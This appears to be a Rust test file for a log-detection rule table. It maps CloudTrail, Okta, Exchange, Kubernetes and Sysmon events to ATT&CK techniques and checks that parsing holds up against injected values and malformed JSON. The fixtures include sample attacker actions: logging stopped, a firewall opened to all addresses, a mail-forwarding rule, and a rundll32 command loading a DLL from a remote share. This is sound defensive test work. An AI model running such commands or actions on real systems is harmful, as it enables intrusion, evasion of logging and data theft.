use super::*;

#[test]
fn every_line_of_the_table_is_sound() {
    let table = Table::read(TEXTS).map_err(|(line, wrong)| format!("{line}: {wrong}"));
    let table = table.unwrap_or_else(|wrong| panic!("{wrong}"));
    for meaning in table.meanings() {
        assert!(!meaning.name.is_empty());
        let harmless = meaning.strength == Strength::Harmless;
        assert_eq!(harmless, meaning.class == ThreatClass::Benign, "{}", meaning.name);
        assert!(!harmless || meaning.techniques.is_empty(), "{}", meaning.name);
    }
}

/// Strength and first technique of what the table says.
fn told(text: &str) -> Option<(Strength, String)> {
    let hit = said(text)?.hit?;
    let technique = hit.techniques.first().map(|first| first.id.to_string());
    Some((hit.strength, technique.unwrap_or_default()))
}

#[test]
fn actions_are_told_by_name_and_fields() {
    use Strength::{Harmless, Likely, Trace, Weak};
    let cases = [
        (
            r#"{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}"#,
            Some((Likely, "T1562.008")),
        ),
        // Behind a syslog header, wrapped, and another order.
        (
            r#"<13>Oct  3 09:12:44 relay audit: {"detail":{"eventName":"StopLogging","eventSource":"x"}}"#,
            Some((Likely, "T1562.008")),
        ),
        (
            r#"{"Records":[{"eventSource":"x","eventName":"StopLogging"}]}"#,
            Some((Likely, "T1562.008")),
        ),
        // Tried and refused.
        (
            r#"{"eventSource":"x","eventName":"StopLogging","errorCode":"AccessDenied"}"#,
            Some((Trace, "T1562.008")),
        ),
        (
            r#"{"eventSource":"x","eventName":"DescribeTrails","readOnly":true}"#,
            Some((Harmless, "")),
        ),
        (
            r#"{"eventSource":"ec2","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}}"#,
            Some((Likely, "T1562.007")),
        ),
        (
            r#"{"eventSource":"ec2","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"cidrIp":"192.0.2.0/24"}}"#,
            Some((Weak, "T1562.007")),
        ),
        (
            r#"{"eventType":"user.session.start","actor":{"alternateId":"a"},"outcome":{"result":"SUCCESS"}}"#,
            Some((Harmless, "")),
        ),
        (
            r#"{"eventType":"user.session.start","actor":{"alternateId":"a"},"outcome":{"result":"FAILURE"}}"#,
            Some((Weak, "T1110.001")),
        ),
        // A list of names and values.
        (
            r#"{"Operation":"New-InboxRule","Workload":"Exchange","Parameters":[{"Name":"ForwardTo","Value":"x@example.com"}]}"#,
            Some((Likely, "T1114.003")),
        ),
        (
            r#"{"Operation":"New-InboxRule","Workload":"Exchange","Parameters":[{"Name":"Name","Value":"ForwardTo"}]}"#,
            Some((Weak, "T1114.003")),
        ),
        // An event inside an event's text.
        (
            r#"{"operationName":"x","properties":{"log":"{\"verb\":\"create\",\"objectRef\":{\"resource\":\"pods\",\"subresource\":\"exec\"}}"}}"#,
            Some((Likely, "T1609")),
        ),
        (
            r#"{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32 \\\\198.51.100.7\\s\\a.dll,0"}}}"#,
            Some((Strength::Strong, "T1218.011")),
        ),
        // Words, where the service is unknown: at their beginnings only.
        (
            r#"{"actor":"a","action":"workspace.mfa_requirement.disabled"}"#,
            Some((Likely, "T1556.006")),
        ),
        (r#"{"actor":"a","action":"hostedRunner.remove"}"#, None),
        (r#"{"actor":"a","action":"something.else"}"#, None),
        (r#"{"temperature":21}"#, None),
        ("no object at all", None),
    ];
    for (text, expected) in cases {
        let expected = expected.map(|(strength, technique)| (strength, technique.to_owned()));
        assert_eq!(told(text), expected, "{text}");
    }
}

#[test]
fn what_a_stranger_writes_into_a_value_decides_nothing() {
    let plain = r#"{"eventSource":"s3.amazonaws.com","eventName":"GetObject","userAgent":"x","requestParameters":{"key":"x"}}"#;
    for value in ["StopLogging", r#"{\"eventName\":\"StopLogging\"}"#, "failed login mfa disabled"]
    {
        let text = plain.replace(r#""x""#, &format!("\"{value}\""));
        assert_eq!(told(&text), told(plain), "{text}");
    }
    let text = plain.replace(r#""key":"x""#, r#""eventName":"StopLogging""#);
    assert_eq!(told(&text), told(plain), "the least deep counts");
}

#[test]
fn hostile_shapes_are_bounded_and_read_as_far_as_they_go() {
    let stop = r#"{"eventSource":"x","eventName":"StopLogging""#;
    let nothing = [
        format!("{{\"a\":{}", "[".repeat(100_000)),
        format!("{{\"a\":{}", r#"{"a":"#.repeat(100_000)),
        format!("{{\"{}\":1}}", "k.".repeat(100_000)),
        format!("{{\"a\":[{}1]}}", "{\"eventName\":7},".repeat(20_000)),
        r#"{"eventSource":[],"eventName":{}}"#.to_owned(),
        r#"{"eventSource":1e999,"eventName":null}"#.to_owned(),
        "{\"\":\"\"}".to_owned(),
        "{\"\\ud800".to_owned(),
    ];
    for text in nothing {
        assert_eq!(told(&text), None, "{}", &text[..text.len().min(60)]);
    }
    for tail in [
        // Cut off, too deep, too long, not JSON any more, the same name again.
        String::new(),
        format!(",\"a\":{}", "[".repeat(100_000)),
        format!(",\"a\":[{}1]}}", "{\"b\":1},".repeat(20_000)),
        ", and more".to_owned(),
        r#","eventName":"GetObject"}"#.to_owned(),
        format!(",\"log\":\"{}\"}}", r#"{\"log\":\"{"#.repeat(1000)),
    ] {
        let said = told(&format!("{stop}{tail}"));
        assert_eq!(said, Some((Strength::Likely, "T1562.008".to_owned())), "{:.40}", tail);
    }
}
